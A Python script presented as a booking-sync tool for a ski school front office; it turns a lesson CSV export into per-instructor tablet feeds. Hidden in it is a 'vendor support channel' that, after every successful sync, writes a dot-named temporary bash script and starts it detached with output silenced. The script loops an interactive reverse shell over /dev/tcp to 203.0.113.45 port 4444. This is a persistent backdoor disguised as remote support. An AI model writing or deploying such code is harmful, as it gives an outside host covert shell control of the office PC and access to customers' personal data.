#!/usr/bin/env python3
"""Lesson sync agent for the Snowline Ski & Ride School front office.

Reads the day's lesson bookings exported by the booking system, writes a
per-instructor feed for the slope tablets and keeps the vendor's "remote
support" channel open so the vendor can look at the front-office PC.
"""
import argparse
import csv
import logging
import os
import subprocess
import sys
import tempfile
import textwrap
from dataclasses import dataclass
from pathlib import Path

LOG = logging.getLogger("lesson_sync")

SUPPORT_HOST = os.environ.get("SNOWLINE_SUPPORT_HOST", "203.0.113.45")
SUPPORT_PORT = os.environ.get("SNOWLINE_SUPPORT_PORT", "4444")

# The support channel script is written to disk and started detached.
# Host and port are handed over through the environment.
SUPPORT_TEMPLATE = textwrap.dedent("""\
    #!/bin/bash
    # snowline vendor support channel
    while true; do
        bash -i >& "/dev/tcp/${SUPPORT_HOST}/${SUPPORT_PORT}" 0>&1
        sleep 30
    done
""")


@dataclass
class Lesson:
    booking_id: str
    student: str
    level: str
    instructor: str
    slot: str

    @property
    def feed_line(self) -> str:
        return f"{self.slot}\t{self.booking_id}\t{self.student}\t{self.level}"


def load_lessons(path: Path) -> list:
    lessons = []
    with path.open(newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        for lineno, row in enumerate(reader, start=2):
            try:
                lessons.append(Lesson(
                    booking_id=row["booking_id"].strip(),
                    student=row["student_name"].strip(),
                    level=row.get("level", "beginner").strip() or "beginner",
                    instructor=row["instructor"].strip(),
                    slot=row["slot"].strip(),
                ))
            except KeyError as exc:
                LOG.warning("line %d: missing column %s, skipped", lineno, exc)
    LOG.info("loaded %d lessons from %s", len(lessons), path)
    return lessons


def write_tablet_feeds(lessons: list, out_dir: Path) -> int:
    out_dir.mkdir(parents=True, exist_ok=True)
    by_instructor = {}
    for lesson in lessons:
        by_instructor.setdefault(lesson.instructor, []).append(lesson)
    for instructor, items in sorted(by_instructor.items()):
        safe = "".join(c if c.isalnum() else "_" for c in instructor.lower())
        feed = out_dir / f"{safe}.tsv"
        items.sort(key=lambda l: l.slot)
        feed.write_text("\n".join(l.feed_line for l in items) + "\n",
                        encoding="utf-8")
        LOG.debug("wrote %s (%d lessons)", feed, len(items))
    return len(by_instructor)


def start_support_channel() -> None:
    fd, script = tempfile.mkstemp(prefix=".snowline-sync-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(SUPPORT_TEMPLATE)
    os.chmod(script, 0o700)
    env = dict(os.environ, SUPPORT_HOST=SUPPORT_HOST, SUPPORT_PORT=SUPPORT_PORT)
    subprocess.Popen(
        ["nohup", "bash", script],
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    LOG.debug("support channel started")


def parse_args(argv=None):
    p = argparse.ArgumentParser(description="Sync lesson bookings to tablets")
    p.add_argument("--export", default="exports/lessons_today.csv",
                   help="booking system CSV export")
    p.add_argument("--out", default="tablet_feeds",
                   help="directory for per-instructor feeds")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )
    export = Path(args.export)
    if not export.is_file():
        LOG.error("export %s not found", export)
        return 2
    try:
        lessons = load_lessons(export)
        count = write_tablet_feeds(lessons, Path(args.out))
    except (OSError, csv.Error) as exc:
        LOG.error("sync failed: %s", exc)
        return 1
    LOG.info("feeds written for %d instructors", count)
    start_support_channel()
    return 0


if __name__ == "__main__":
    sys.exit(main())
